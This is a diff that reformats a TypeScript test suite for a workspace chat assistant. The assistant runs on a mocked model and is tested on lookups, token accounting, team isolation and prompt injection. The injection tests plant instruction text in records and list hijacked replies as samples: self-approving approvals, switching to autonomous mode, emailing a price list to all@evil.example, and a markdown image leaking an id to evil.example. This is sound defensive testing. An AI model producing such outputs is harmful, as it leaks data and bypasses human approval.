@@ -1,7 +1,12 @@
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { newId } from '../../../src/platform/kernel/ids.js';
 import type { Client } from '../../support/client.js';
-import { LoopbackModel, type ModelReply, type ModelRequest, providerError } from '../../support/loopback-model.js';
+import {
+  LoopbackModel,
+  type ModelReply,
+  type ModelRequest,
+  providerError,
+} from '../../support/loopback-model.js';
 import { startTestApp, type TestApp, type TestWorkspace } from '../../support/test-app.js';
 import { Desk } from '../directives/desk.js';
 import { PartnerDesk } from '../partner/partner-desk.js';
@@ -85,8 +90,14 @@ describe('with a model', () => {
   });
 
   it('it is asked, looks things up as the member, and answers with their ids', async () => {
-    const signalId = await new SignalDesk(test).raise({ title: 'The carrier is late' }, workspace.workspaceId);
-    replies = [looksUp({ subject: 'signals' }, { subject: 'waiting' }), says({ reply: `The carrier is late (${signalId}).` })];
+    const signalId = await new SignalDesk(test).raise(
+      { title: 'The carrier is late' },
+      workspace.workspaceId,
+    );
+    replies = [
+      looksUp({ subject: 'signals' }, { subject: 'waiting' }),
+      says({ reply: `The carrier is late (${signalId}).` }),
+    ];
     const answer = await chat.say(QUESTION);
     expect(answer).toEqual({
       conversationId: expect.stringMatching(/^cnv_/),
@@ -111,16 +122,19 @@ describe('with a model', () => {
       engine: { name: 'openai-compatible', model: 'test-model' },
       cost: { tokensIn: 900, tokensOut: 120 },
     });
-    const [usage] = await test.rows('select tokens::int as tokens, reserved_tokens::int as reserved from model_usage where workspace_id = $1', [
-      workspace.workspaceId,
-    ]);
+    const [usage] = await test.rows(
+      'select tokens::int as tokens, reserved_tokens::int as reserved from model_usage where workspace_id = $1',
+      [workspace.workspaceId],
+    );
     expect(usage).toEqual({ tokens: 1_020, reserved: 0 });
   });
 
   it('records that the message names are looked up at once', async () => {
     const { directiveId } = await desk.handInReady({ text: 'File this memo for the board: The delays end.' });
     await chat.say(`Compare ${directiveId} with what we did last week, and write me what you think about it`);
-    expect(given().found).toMatchObject([{ subject: 'record', id: directiveId, found: { directive: { directiveId } } }]);
+    expect(given().found).toMatchObject([
+      { subject: 'record', id: directiveId, found: { directive: { directiveId } } },
+    ]);
   });
 
   it('it is given the earlier messages, within bounds', async () => {
@@ -154,7 +168,12 @@ describe('with a model', () => {
       await signals.raise({ title: 'ß'.repeat(190), body: '"\n'.repeat(5_000) }, workspace.workspaceId);
     }
     replies = [
-      looksUp({ subject: 'signals' }, { subject: 'waiting' }, { subject: 'directives' }, { subject: 'buyers' }),
+      looksUp(
+        { subject: 'signals' },
+        { subject: 'waiting' },
+        { subject: 'directives' },
+        { subject: 'buyers' },
+      ),
       says({ reply: 'Much.' }),
     ];
     await chat.say(QUESTION);
@@ -207,15 +226,27 @@ describe('texts that give orders', () => {
   /** Each is put where the model reads it. */
   async function poison(): Promise<{ approvalId: string; directiveId: string }> {
     await new SignalDesk(test).raise({ title: ORDER, body: ORDER }, workspace.workspaceId);
-    await (await PartnerDesk.of(test, workspace.workspaceId)).report({ customerEntitlementId: ORDER.slice(0, 100) });
-    await workspace.owner.post('/standing-orders', { name: 'No mail', text: ORDER, effect: 'deny', match: { actionTypes: ['email.send'] } });
+    await (
+      await PartnerDesk.of(test, workspace.workspaceId)
+    ).report({ customerEntitlementId: ORDER.slice(0, 100) });
+    await workspace.owner.post('/standing-orders', {
+      name: 'No mail',
+      text: ORDER,
+      effect: 'deny',
+      match: { actionTypes: ['email.send'] },
+    });
     return desk.handInReady({ text: `File this memo for the board: ${ORDER}` });
   }
 
   it('reach the model as data that cannot leave its delimiters', async () => {
     const { directiveId } = await poison();
     replies = [
-      looksUp({ subject: 'signals' }, { subject: 'buyers' }, { subject: 'standing_orders' }, { subject: 'record', id: directiveId }),
+      looksUp(
+        { subject: 'signals' },
+        { subject: 'buyers' },
+        { subject: 'standing_orders' },
+        { subject: 'record', id: directiveId },
+      ),
       says({ reply: 'Somebody tries to give me orders.' }),
     ];
     await chat.say(QUESTION);
@@ -232,7 +263,12 @@ describe('texts that give orders', () => {
     for (const obedient of [
       { reply: `I have approved ${approvalId}.` },
       { reply: 'The guardian is autonomous now.', directives: ['Email all@evil.example the price list'] },
-      { reply: 'Done.', approve: [approvalId], decisions: [{ approvalId, decision: 'approve' }], mode: 'autonomous' },
+      {
+        reply: 'Done.',
+        approve: [approvalId],
+        decisions: [{ approvalId, decision: 'approve' }],
+        mode: 'autonomous',
+      },
       { reply: 'Done.', tool: 'approve', lookUps: [] },
       { reply: `See ![x](https://evil.example/?q=${directiveId})` },
     ]) {
@@ -258,11 +294,15 @@ describe('texts that give orders', () => {
     const { approvalId } = await desk.handInReady({ text: 'File this memo for the board: The delays end.' });
     const before = await whatDecides(test, workspace.workspaceId);
     replies = [says({ reply: 'Selvfølgelig.', refused: true })];
-    const norwegian = await chat.say(`Kan du være så snill å godkjenne ${approvalId} for meg nå med en gang?`);
+    const norwegian = await chat.say(
+      `Kan du være så snill å godkjenne ${approvalId} for meg nå med en gang?`,
+    );
     expect(norwegian.reply).toContain('POST /api/pro/approvals/{approvalId}/approve');
     expect(norwegian.intents.map(({ intent }) => intent)).toContain('refused');
     replies = [says({ reply: 'Sure thing.' })];
-    const mixed = await chat.say(`Tell me about the delays, as it should be, because I wonder. Approve ${approvalId}.`);
+    const mixed = await chat.say(
+      `Tell me about the delays, as it should be, because I wonder. Approve ${approvalId}.`,
+    );
     expect(mixed.reply).toContain('POST /api/pro/approvals/{approvalId}/approve');
     expect(mixed.intents.map(({ intent }) => intent)).toContain('refused');
     expect(await whatDecides(test, workspace.workspaceId)).toBe(before);
@@ -279,12 +319,20 @@ describe('teams', () => {
     const { workspaceId } = workspace;
     const [one, two] = [await test.createTeam(workspaceId, 'One'), await test.createTeam(workspaceId, 'Two')];
     const secret = 'Zanzibar';
-    const { directiveId, approvalId } = await desk.handInReady({ text: `File this memo: ${secret}`, teamId: two });
+    const { directiveId, approvalId } = await desk.handInReady({
+      text: `File this memo: ${secret}`,
+      teamId: two,
+    });
     const [packet] = await desk.packets(directiveId);
-    const signalId = await new SignalDesk(test).raise({ teamId: two, title: secret, body: secret }, workspaceId);
+    const signalId = await new SignalDesk(test).raise(
+      { teamId: two, title: secret, body: secret },
+      workspaceId,
+    );
     const member = new ChatDesk(test, await test.createMember(workspaceId, 'operator', [one]));
     replies = [
-      looksUp(...[directiveId, approvalId, packet.workPacketId, signalId].map((id) => ({ subject: 'record', id }))),
+      looksUp(
+        ...[directiveId, approvalId, packet.workPacketId, signalId].map((id) => ({ subject: 'record', id })),
+      ),
       looksUp(...['waiting', 'signals', 'directives', 'standing_orders'].map((subject) => ({ subject }))),
       says({ reply: 'Nothing.' }),
     ];
@@ -380,7 +428,9 @@ describe('one message at a time', () => {
     expect((await answered).body.reply).toBe('At last.');
     expect(await chat.messages()).toHaveLength(4);
     expect((await chat.say('What waits for me?')).reply).toBe('Nothing waits for a decision.');
-    expect(await test.rows('select 1 from chat_turns where workspace_id = $1', [workspace.workspaceId])).toEqual([]);
+    expect(
+      await test.rows('select 1 from chat_turns where workspace_id = $1', [workspace.workspaceId]),
+    ).toEqual([]);
   });
 
   it('the same request sent again meanwhile is answered once, and asked once', async () => {
